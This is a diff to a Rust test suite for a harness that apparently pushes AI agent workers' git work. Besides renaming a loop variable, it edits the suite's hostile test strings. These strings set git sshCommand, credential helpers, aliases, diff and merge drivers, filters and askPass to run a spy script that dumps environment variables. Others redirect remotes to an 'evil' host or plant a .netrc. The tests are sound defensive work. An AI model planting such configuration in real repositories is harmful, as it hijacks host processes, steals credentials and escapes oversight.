@@ -17,6 +17,7 @@ use serde_json::Value;
 use crate::support::origin::write_program;
 use crate::support::{Forge, Origin, Receiver, duration_setting, path, quoted, with_enough_time};
 
+/// The branch to which workers for task 8 push by default.
 const BRANCH: &str = "descartes/proj-456/8";
 
 /// The idle timeout of git for tests that do not make git wait: git may be slow on a busy machine.
@@ -56,10 +57,12 @@ impl Setup {
         }
     }
 
+    /// The path of the spy.
     fn spy(&self) -> PathBuf {
         self.origin.path("spy")
     }
 
+    /// What the spy has written; empty if it never ran.
     fn spy_output(&self) -> String {
         fs::read_to_string(self.origin.path("spy_output")).unwrap_or_default()
     }
@@ -181,8 +184,8 @@ fn a_file_system_monitor_does_not_run() {
 fn an_ssh_command_does_not_run() {
     let setup = Setup::new();
     let attack = format!(
-        "for where in --local --global; do git config $where core.sshCommand \"$RUN_SPY\"
-         git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
+        "for scope in --local --global; do git config $scope core.sshCommand \"$RUN_SPY\"
+         git config $scope ssh.variant simple; git config $scope url.ssh://evil/.insteadOf {}/; done",
         setup.forge.base_url()
     );
     setup.assert_harmless(&attack);
@@ -192,8 +195,8 @@ fn an_ssh_command_does_not_run() {
 fn a_credential_helper_is_not_asked() {
     let setup = Setup::new();
     let attack = format!(
-        "for where in --local --global; do git config $where credential.helper \"!$RUN_SPY\"
-         git config $where credential.{}.helper \"!$RUN_SPY\"; done
+        "for scope in --local --global; do git config $scope credential.helper \"!$RUN_SPY\"
+         git config $scope credential.{}.helper \"!$RUN_SPY\"; done
          printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
         setup.forge.base_url()
     );
@@ -210,9 +213,9 @@ fn rewritten_urls_and_proxies_are_ignored() {
     let setup = Setup::new();
     let evil = Forge::start(&setup.origin.path(""), None);
     let attack = format!(
-        "for where in --local --global; do git config $where url.{evil}/.insteadOf {base}/
-         git config $where url.{evil}/.pushInsteadOf {base}/; git config $where http.proxy {evil}
-         git config $where remote.origin.url {evil}/project.git; done",
+        "for scope in --local --global; do git config $scope url.{evil}/.insteadOf {base}/
+         git config $scope url.{evil}/.pushInsteadOf {base}/; git config $scope http.proxy {evil}
+         git config $scope remote.origin.url {evil}/project.git; done",
         evil = evil.base_url(),
         base = setup.forge.base_url()
     );
@@ -223,15 +226,15 @@ fn rewritten_urls_and_proxies_are_ignored() {
 #[test]
 fn a_program_that_asks_for_passwords_does_not_run() {
     Setup::new().assert_harmless(
-        r#"for where in --local --global; do git config $where core.askPass "$SPY"; done"#,
+        r#"for scope in --local --global; do git config $scope core.askPass "$SPY"; done"#,
     );
 }
 
 #[test]
 fn configured_diff_programs_do_not_run() {
     Setup::new().assert_harmless(
-        r#"for where in --local --global; do git config $where diff.external "$RUN_SPY"; git config $where diff.spy.textconv "$RUN_SPY"
-         git config $where diff.spy.command "$RUN_SPY"; git config $where core.pager "$RUN_SPY"; git config $where interactive.diffFilter "$RUN_SPY"; done
+        r#"for scope in --local --global; do git config $scope diff.external "$RUN_SPY"; git config $scope diff.spy.textconv "$RUN_SPY"
+         git config $scope diff.spy.command "$RUN_SPY"; git config $scope core.pager "$RUN_SPY"; git config $scope interactive.diffFilter "$RUN_SPY"; done
          echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README"#,
     );
 }
@@ -239,8 +242,8 @@ fn configured_diff_programs_do_not_run() {
 #[test]
 fn aliases_do_not_run() {
     Setup::new().assert_harmless(
-        "for where in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
-         cat-file merge-base read-tree; do git config $where alias.$command \"!$RUN_SPY\"; done; done",
+        "for scope in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
+         cat-file merge-base read-tree; do git config $scope alias.$command \"!$RUN_SPY\"; done; done",
     );
 }
 
@@ -275,7 +278,7 @@ echo ran >> "$outside/ran"
 tr '\0' '\n' < /proc/self/environ >> "$outside/spy_output"
 tr a-z A-Z
 END
-         chmod +x "$OUTSIDE/clean"; for where in --local --global; do git config $where filter.spy.clean {filter}; done
+         chmod +x "$OUTSIDE/clean"; for scope in --local --global; do git config $scope filter.spy.clean {filter}; done
          echo 'new filter=spy' > .gitattributes; echo new > new; echo ignored >> .git/info/exclude; touch ignored"#
     ));
     assert_eq!(event["status"], "completed", "{event}");
@@ -291,7 +294,7 @@ fn a_merge_driver_in_the_agents_attributes_does_not_run() {
     setup.assert_harmless(
         r#"mkdir -p .git/info "$HOME/.config/git"; for file in .gitattributes .git/info/attributes "$HOME/.config/git/attributes"; do
          echo '* merge=spy text eol=crlf' > "$file"; done
-         for where in --local --global; do git config $where merge.spy.driver "$RUN_SPY"; done; touch README; echo new > new"#,
+         for scope in --local --global; do git config $scope merge.spy.driver "$RUN_SPY"; done; touch README; echo new > new"#,
     );
     assert_eq!(setup.origin.show(BRANCH, "new"), "new");
 }
